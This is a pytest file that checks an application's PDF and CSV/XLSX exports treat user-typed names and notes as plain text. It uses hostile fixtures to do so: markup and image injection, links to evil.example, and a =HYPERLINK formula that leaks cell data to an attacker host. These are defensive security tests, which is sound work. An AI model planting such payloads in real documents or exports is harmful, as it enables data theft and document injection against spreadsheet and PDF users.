"""Names, addresses, descriptions and observations typed by users are text in every PDF and every spreadsheet:
never markup, never a link or an image read from the server's disk, never a live formula, never a crash."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from app.adhesion.evidence import EvidenceData, EvidenceEvent, EvidenceRevision, render_evidence
from app.billing_reports import exports as statement_exports
from app.billing_reports.pdf import render_consolidated, render_statement
from app.billing_reports.sample import sample_statement
from app.billing_reports.statement import Party as StatementParty
from app.documents.exports import append_row, csv_bytes, csv_text_cell
from app.documents.pdf_text import escape, markup
from app.sla.indicators import Measure
from app.sla.reports import EntitySection, ReportData, render_csv, render_pdf
from app.sla.services import IndicatorRow
from app.tenants.models import Centre, Entity
from tests.unit.test_adhesion_pdf import clause

PNG = bytes.fromhex(  # a 1×1 PNG: what an <img src> on the server's disk would embed
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000001e221bc330000000049454e44ae426082")


@pytest.fixture
def hostile(tmp_path) -> list[str]:
    image = tmp_path / "server.png"
    image.write_bytes(PNG)
    return [f'SUNAT <font size="30" color="red">GRANDE</font> <a href="http://evil.example/p">clic</a> '
            f'<img src="{image}" width="40" height="40"/>',
            "SUNAT & Asociados <b", "Entidad\x00 con nulo </para> ]]> &amp;"]


def _pdf_has_no_injected_objects(pdf: bytes) -> str:
    reader = PdfReader(io.BytesIO(pdf))
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            assert not (action and "/URI" in action.get_object() and "evil" in str(action.get_object()["/URI"])), \
                "a link from a user's text"
        resources = page.get("/Resources") or {}
        xobjects = resources.get("/XObject") or {}
        for ref in xobjects.values():
            assert ref.get_object().get("/Subtype") != "/Image", "an image read from the server's disk"
    return "\n".join(p.extract_text() for p in reader.pages)


def test_the_safe_text_helper_escapes_values_and_keeps_only_the_templates_markup():
    assert escape('<b>"x" & y</b>') == "&lt;b&gt;&quot;x&quot; &amp; y&lt;/b&gt;"
    assert escape("nulo\x00 y\x07 campana") == "nulo y campana"
    assert markup("<b>{name}</b> (RUC {ruc})", name="A <i>B</i>", ruc="20100000001") == \
        "<b>A &lt;i&gt;B&lt;/i&gt;</b> (RUC 20100000001)"


def test_the_monthly_ans_report_shows_hostile_entity_names_as_text(hostile):
    administrator = Entity(name=hostile[1], ruc="20505703554", is_demo=False)
    sections = [EntitySection(Entity(name=name, ruc="20131312955", is_demo=False), [
        IndicatorRow("espera", Measure("espera", 1, 2, Decimal("0.5")), None, "no_cumple", None)], [])
        for name in hostile]
    data = ReportData(Centre(name=hostile[0], code="=CMD()", is_demo=False), administrator, date(2026, 10, 1),
                      datetime(2026, 11, 1, 9, 0, tzinfo=UTC), sections, synthetic=False)
    text = _pdf_has_no_injected_objects(render_pdf(data))
    assert "<font" in text and "GRANDE" in text and "SUNAT & Asociados <b" in text
    rows = list(csv.reader(io.StringIO(render_csv(data))))
    assert rows[1][0] == "'=CMD()"  # the centre's code cannot start a formula either


def test_statements_and_the_consolidated_view_show_hostile_names_as_text(hostile):
    base = sample_statement()
    statement = dataclasses.replace(
        base, centre_name=hostile[0], participant=StatementParty(hostile[1], base.participant.ruc),
        notes=(hostile[2],), lines=tuple(dataclasses.replace(ln, item=hostile[0]) for ln in base.lines))
    assert "<font" in _pdf_has_no_injected_objects(render_statement(statement))
    consolidated = render_consolidated([statement], title=hostile[0], subtitle=hostile[1], issued_on=date(2026, 11, 5))
    assert "GRANDE" in _pdf_has_no_injected_objects(consolidated)


def test_the_clause_and_its_evidence_show_hostile_names_addresses_and_observations_as_text(hostile):
    data = clause(centre_name=hostile[0], centre_address=hostile[1], services=(("S-1", hostile[0]),),
                  cofinancing=hostile[2])
    assert "<font" in _pdf_has_no_injected_objects(render_clause_safe(data))
    at = datetime(2026, 11, 1, 14, 0, tzinfo=UTC)
    evidence = EvidenceData(
        title="Constancia", adhesion_id="x", participant=hostile[0], administrator=hostile[1], centre=hostile[2],
        state="Presentada", generated_at=at,
        events=(EvidenceEvent(at, "presentar", "borrador", "presentada", hostile[0], None, "gestor_entidad",
                              hostile[1], "127.0.0.1", hostile[0], hostile[1], None, hostile[0]),),
        revisions=(EvidenceRevision("ADH-1", 1, hostile[0], "0" * 64, 10, at, None),))
    assert "GRANDE" in _pdf_has_no_injected_objects(render_evidence(evidence))


def render_clause_safe(data) -> bytes:  # noqa: ANN001
    from app.adhesion.pdf import render_clause

    return render_clause(data)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Ver sustento")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def test_every_text_cell_that_could_start_a_formula_is_neutralised_and_numbers_stay_numbers():
    assert [csv_text_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert csv_text_cell(Decimal("-12.50")) == "-12.50" and csv_text_cell(-3) == "-3"
    assert csv_text_cell("SUNAT - Lima") == "SUNAT - Lima"
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], [[f, Decimal("-1.00")] for f in FORMULAS])
                                       .decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]

    from openpyxl import Workbook

    wb = Workbook()
    for f in FORMULAS:
        append_row(wb.active, [f, Decimal("-1.00"), "con\x01control"])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    for row, f in zip(sheet.iter_rows(), FORMULAS, strict=True):
        assert row[0].data_type == "s" and row[0].value == f and row[0].quotePrefix
        assert row[1].data_type == "n" and row[1].value == -1
        assert row[2].value == "concontrol"


def test_the_statement_spreadsheets_carry_a_coordinators_formula_as_text():
    """The attack of the report: an item described as a HYPERLINK formula, in the finance officer's export."""
    base = sample_statement()
    evil = FORMULAS[0]
    statement = dataclasses.replace(base, lines=tuple(dataclasses.replace(ln, item=evil) for ln in base.lines),
                                    participant=StatementParty("@entidad", base.participant.ruc))
    detail = load_workbook(io.BytesIO(statement_exports.to_xlsx([statement])))["Detalle"]
    cell = detail["F3"]
    assert cell.value == evil and cell.data_type == "s"
    assert all(c.data_type != "f" for row in detail.iter_rows() for c in row)
    assert detail["K2"].data_type == "n"  # amounts are numbers
    rows = list(csv.reader(io.StringIO(statement_exports.to_csv([statement]).decode("utf-8-sig"))))
    assert rows[1][5] == "'" + evil and rows[1][1] == "'@entidad"
    assert not rows[1][10].startswith("'")
